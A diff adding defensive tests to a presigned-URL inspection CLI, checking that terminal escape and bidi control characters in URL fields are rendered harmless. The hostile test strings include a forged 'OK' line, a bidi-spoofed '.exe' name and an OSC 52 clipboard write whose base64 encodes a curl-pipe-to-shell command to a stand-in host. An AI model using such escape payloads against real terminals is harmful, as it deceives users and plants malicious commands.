@@ -5,6 +5,7 @@
  */
 import { presign, PresignInput } from '../../src';
 import { cli, CliResult, ensureBuilt } from './run';
+import { cosSdkUrl, s3SdkUrl, tosSdkUrl } from '../core/inspect-sdk';
 
 const T0 = 1767225600; // 2026-01-01T00:00:00Z
 const SECRET = 'Inspect-Cli-Secret-4d1e';
@@ -179,5 +180,74 @@ describe('checking the signature', () => {
     const id = await run(urls.s3, ['--secret-id', 'AKIA']);
     expect(id.code).toBe(2);
     expect(id.stderr).toMatch(/--secret-id: goes with --secret-key/);
+  });
+});
+
+// ---- terminal escapes (security round 2, finding 5) -------------------------------------------
+
+describe('text from the URL cannot act on the terminal', () => {
+  // C0 and C1 controls, DEL, line/paragraph separators, bidi overrides and isolates.
+  const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+  const FAKE_OK = '\rOK: the signature matches for GET with the headers given, and the URL is within its window\n';
+  const HOSTILE: Array<[string, string]> = [
+    ['a carriage return and a fake OK line', `a${FAKE_OK}b`],
+    ['ANSI conceal (ESC[8m) and line erase', 'x\u001b[8mhidden\u001b[2K\u001b[1A'],
+    ['OSC 52 clipboard write', 'y\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'],
+    ['an 8-bit CSI and DEL', 'z\u009b2J\u007f'],
+    ['bidi override and isolate', 'report\u202efdp.exe\u2066x\u2069'],
+    ['a line separator', 'l\u2028OK: forged'],
+  ];
+  const sdk = { secretId: 'AKIDESCAPE', secretKey: SECRET, startTime: T0, expires: 600 };
+
+  function clean(r: CliResult): void {
+    expect(r.stdout + r.stderr).not.toMatch(UNSAFE);
+    // The only verdict lines are the real ones, at the start of a line.
+    expect(r.stdout).not.toMatch(/^OK: the signature matches/m);
+    expect(r.stdout).not.toMatch(/^OK: forged/m);
+  }
+
+  // Each text in a URL of one provider (in turn), as the key, a param name and value, and for COS the access key id.
+  test.each(HOSTILE.map(([name, text], i) => [name, text, i % 3] as const))('%s, in the key, a param and the access key id', async (_name, text, which) => {
+    const url = [
+      cosSdkUrl({ ...sdk, secretId: 'AKID' + text, bucket: 'examplebucket-1250000000', region: 'ap-guangzhou', key: `k/${text}`, params: { [`p${text}`]: text } }),
+      s3SdkUrl({ ...sdk, bucket: 'examplebucket', region: 'us-west-2', key: `k/${text}`, params: { [`p${text}`]: text } }),
+      tosSdkUrl({ ...sdk, bucket: 'examplebucket', region: 'cn-beijing', key: `k/${text}`, params: { [`p${text}`]: text } }),
+    ][which];
+    {
+      const plain = await run(url);
+      expect(plain.code).toBe(0);
+      clean(plain);
+      expect(plain.stdout).toMatch(/^key +k\/\S/m);
+      expect(plain.stdout).toMatch(/signature not checked/);
+      // A wrong secret: the real verdict is FAILED, and it stays visible.
+      const failed = await run(url, ['--secret-key', 'not-the-secret-key']);
+      expect(failed.code).toBe(1);
+      clean(failed);
+      expect(failed.stdout).toMatch(/^FAILED: the server would refuse this GET request:$/m);
+      const json = await run(url, ['--json']);
+      clean(json);
+      const parsed = JSON.parse(json.stdout);
+      expect(parsed.key).toBe(`k/${text}`);
+      expect(parsed.signedParams).toEqual([{ name: `p${text}`, value: text }]);
+    }
+  });
+
+  test('the escapes are visible, not dropped', async () => {
+    const url = s3SdkUrl({ ...sdk, bucket: 'examplebucket', region: 'us-west-2', key: 'a\u001b[8mb\rc\u202ed' });
+    const r = await run(url);
+    expect(r.stdout).toMatch(/^key +a\\x1b\[8mb\\rc\\u202ed$/m);
+  });
+
+  test('a raw escape in the host and a bidi control in an error message', async () => {
+    const s3 = s3SdkUrl({ ...sdk, bucket: 'examplebucket', region: 'us-west-2', key: 'a' });
+    const host = await run(s3.replace('examplebucket.s3', 'x\u001b]52;c;QQ==\u0007.examplebucket.s3'), ['--secret-key', SECRET]);
+    clean(host);
+    expect(host.stdout).toMatch(/^host +https:\/\/x\\x1b\]52;c;qq==\\x07\.examplebucket/m);
+    expect(host.stdout).toMatch(/^FAILED:/m);
+    const cos = cosSdkUrl({ ...sdk, bucket: 'examplebucket-1250000000', region: 'ap-guangzhou', key: 'a' });
+    const bad = await run(cos.replace(/q-sign-time=[^&]*/, 'q-sign-time=%E2%80%AEOK%1B%5B8m'));
+    expect(bad.code).toBe(2);
+    clean(bad);
+    expect(bad.stderr).toMatch(/q-sign-time .*\\u202eOK/);
   });
 });
